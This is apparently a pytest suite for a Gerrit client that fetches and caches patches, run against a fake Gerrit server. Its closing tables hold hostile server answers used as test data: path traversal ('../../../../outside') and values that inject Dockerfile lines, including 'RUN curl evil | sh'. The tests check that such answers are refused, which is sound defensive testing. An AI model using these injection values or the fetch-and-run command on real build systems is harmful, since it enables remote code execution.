"""The Gerrit client against a fake Gerrit on loopback that speaks Gerrit's wire format."""

from __future__ import annotations

from datetime import datetime, timezone

import pytest

from apex_tools.core.errors import GerritError
from apex_tools.patching.gerrit import GerritClient, parse_gerrit_time, strip_xssi
from fake_gerrit import FakeChange, git_patch, run_fake_gerrit

CID = "Id68aa27a8ab08d9c00655e5ed6b48d194aa8e6f6"
PATCH = git_patch(CID, {"nova/api.py": ("old\n", "new\n")})


@pytest.fixture
def gerrit():
    with run_fake_gerrit() as fake:
        fake.add(FakeChange("openstack/nova", "stable/queens", CID, PATCH, status="MERGED",
                            submitted="2018-06-11 15:23:55.000000000", patchset=7))
        yield fake


def client(gerrit, tmp_path, **kw):
    return GerritClient(gerrit.url, tmp_path / "cache", **kw)


def test_lookup_uses_the_triplet_and_strips_the_xssi_prefix(gerrit, tmp_path):
    change = client(gerrit, tmp_path).change("openstack/nova", "stable/queens", CID)
    assert gerrit.requests == [f"/changes/openstack%2Fnova~stable%2Fqueens~{CID}?o=CURRENT_REVISION"]
    assert change.status == "MERGED"
    assert change.revision == gerrit.changes[next(iter(gerrit.changes))].revision
    assert change.submitted == datetime(2018, 6, 11, 15, 23, 55, tzinfo=timezone.utc)
    assert change.patch_set == 7 and change.commit == change.revision


def test_patch_set_and_commit_are_read_from_the_revision_and_kept_offline(tmp_path):
    commit = "c" * 40
    with run_fake_gerrit() as fake:
        fake.add(FakeChange("openstack/nova", "stable/queens", CID, PATCH, patchset=3,
                            revision_answer={"commit": {"commit": commit, "subject": "A change"}}))
        online = client(fake, tmp_path).change("openstack/nova", "stable/queens", CID)
    offline = client(fake, tmp_path, offline=True).change("openstack/nova", "stable/queens", CID)
    assert (online.patch_set, online.commit) == (offline.patch_set, offline.commit) == (3, commit)


def test_patch_is_base64_decoded_and_cached_by_revision(gerrit, tmp_path):
    c = client(gerrit, tmp_path)
    change = c.change("openstack/nova", "stable/queens", CID)
    assert c.patch(change) == PATCH
    assert (tmp_path / "cache" / "patches" / f"{change.revision}.patch").read_text() == PATCH
    before = len(gerrit.requests)
    assert c.patch(change) == PATCH
    assert len(gerrit.requests) == before, "a cached revision must not be downloaded again"


def test_not_found_names_change_project_and_branch(gerrit, tmp_path):
    with pytest.raises(GerritError) as err:
        client(gerrit, tmp_path).change("openstack/nova", "master", CID)
    assert CID in err.value.message and "openstack/nova" in err.value.message and "branch master" in err.value.message
    assert "Not found" in err.value.message
    assert "branch" in err.value.hint


def test_offline_answers_from_the_cache_and_fails_clearly_without_it(gerrit, tmp_path):
    online = client(gerrit, tmp_path)
    online.patch(online.change("openstack/nova", "stable/queens", CID))
    count = len(gerrit.requests)
    offline = client(gerrit, tmp_path, offline=True)
    assert offline.patch(offline.change("openstack/nova", "stable/queens", CID)) == PATCH
    assert len(gerrit.requests) == count
    with pytest.raises(GerritError, match="not in the cache .* no_fetch is set"):
        offline.change("openstack/nova", "master", CID)


def test_dry_run_client_writes_no_cache(gerrit, tmp_path):
    c = client(gerrit, tmp_path, write_cache=False)
    c.patch(c.change("openstack/nova", "stable/queens", CID))
    assert not (tmp_path / "cache").exists()


@pytest.mark.parametrize(
    "fail_next, tries, ok",
    [(1, 3, True), (2, 3, True), (3, 2, False)],
    ids=["one-503-retried", "two-503s-retried", "503s-beyond-tries-fail"],
)
def test_server_errors_are_retried(gerrit, tmp_path, fail_next, tries, ok):
    gerrit.fail_next = fail_next
    c = client(gerrit, tmp_path, tries=tries)
    if ok:
        assert c.change("openstack/nova", "stable/queens", CID).status == "MERGED"
        assert len(gerrit.requests) == fail_next + 1
    else:
        with pytest.raises(GerritError, match="HTTP 503"):
            c.change("openstack/nova", "stable/queens", CID)


def test_a_stalled_server_times_out_with_a_clear_error(gerrit, tmp_path):
    gerrit.delay = 1.0
    with pytest.raises(GerritError, match="cannot reach Gerrit"):
        client(gerrit, tmp_path, timeout=0.2, tries=1).change("openstack/nova", "stable/queens", CID)


def test_unreachable_gerrit_hints_at_no_fetch(tmp_path):
    from conftest import free_port

    c = GerritClient(f"http://127.0.0.1:{free_port()}", tmp_path, tries=1, timeout=1)
    with pytest.raises(GerritError) as err:
        c.change("openstack/nova", "master", CID)
    assert "no_fetch" in err.value.hint


@pytest.mark.parametrize("text, expected", [(")]}'\n{}", "{}"), ("{}", "{}")], ids=["prefixed", "plain"])
def test_strip_xssi(text, expected):
    assert strip_xssi(text) == expected


def test_gerrit_time_drops_nanoseconds():
    assert parse_gerrit_time("2019-01-02 03:04:05.123456789") == datetime(2019, 1, 2, 3, 4, 5, tzinfo=timezone.utc)
    assert parse_gerrit_time(None) is None


def test_gerrit_obeys_retry_after_only_up_to_the_cap():
    from types import SimpleNamespace

    from apex_tools.http.retry import MAX_WAIT, CappedRetry

    retry = CappedRetry(total=2, respect_retry_after_header=True)
    asked = lambda value: SimpleNamespace(headers={"Retry-After": value})  # noqa: E731
    assert retry.get_retry_after(asked("3")) == 3.0
    assert retry.get_retry_after(asked("3600")) == MAX_WAIT
    assert retry.new(total=1).get_retry_after(asked("3600")) == MAX_WAIT


# A hostile Gerrit (plain-HTTP gerrit.url, a MITM): its answer names the cache file and the
# Dockerfile text, so each field it controls is checked against what was asked.
HOSTILE = {
    "revision-climbs-out": ({"current_revision": "../../../../outside"}, "is not 40 hex digits"),
    "revision-injects-a-line": ({"current_revision": "a" * 40 + "\nRUN curl evil | sh"}, "is not 40 hex digits"),
    "revision-not-a-string": ({"current_revision": ["a" * 40]}, "is not 40 hex digits"),
    "other-project": ({"project": "evil/nova"}, "for project 'evil/nova', not the requested 'openstack/nova'"),
    "other-branch": ({"branch": "master"}, "for branch 'master', not the requested 'stable/queens'"),
    "other-change-id": ({"change_id": "I" + "f" * 40}, "for change_id"),
    "unknown-status": ({"status": "MERGED\nRUN x"}, "is none of NEW, MERGED"),
    "bad-submitted-time": ({"submitted": "yesterday"}, "submitted time 'yesterday'"),
    "no-revisions": ({"revisions": {}}, "has no revisions."),
}
# The same, inside revisions.<current revision>: the patch set number and commit go into provenance.
HOSTILE_REVISION = {
    "patch-set-a-string": ({"_number": "3"}, "patch set number '3'"),
    "patch-set-a-float": ({"_number": 3.0}, "patch set number 3.0"),
    "patch-set-zero": ({"_number": 0}, "patch set number 0"),
    "patch-set-a-bool": ({"_number": True}, "patch set number True"),
    "patch-set-missing": ({"_number": None}, "patch set number None"),
    "patch-set-injects-a-line": ({"_number": "3\nRUN x"}, "is not a positive integer"),
    "commit-not-hex": ({"commit": {"commit": "../x"}}, "commit '../x'"),
}


@pytest.mark.parametrize("answer, expected", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_gerrit_answer_is_refused_and_writes_nothing(tmp_path, answer, expected):
    _refused(tmp_path, expected, answer=answer)


@pytest.mark.parametrize("answer, expected", HOSTILE_REVISION.values(), ids=HOSTILE_REVISION.keys())
def test_a_hostile_patch_set_is_refused_naming_the_change(tmp_path, answer, expected):
    _refused(tmp_path, expected, revision_answer=answer)


def _refused(tmp_path, expected, **answers):
    with run_fake_gerrit() as fake:
        fake.add(FakeChange("openstack/nova", "stable/queens", CID, PATCH, **answers))
        c = client(fake, tmp_path / "work")
        with pytest.raises(GerritError) as err:
            c.patch(c.change("openstack/nova", "stable/queens", CID))
    assert expected in err.value.message and CID in err.value.message
    assert "\n" not in err.value.message, "the message must not carry the injected line"
    assert not list(tmp_path.rglob("*")), "nothing may be cached from a refused answer"
    assert not (tmp_path / "work" / "cache" / "patches" / "../../../../outside.patch").resolve().exists()
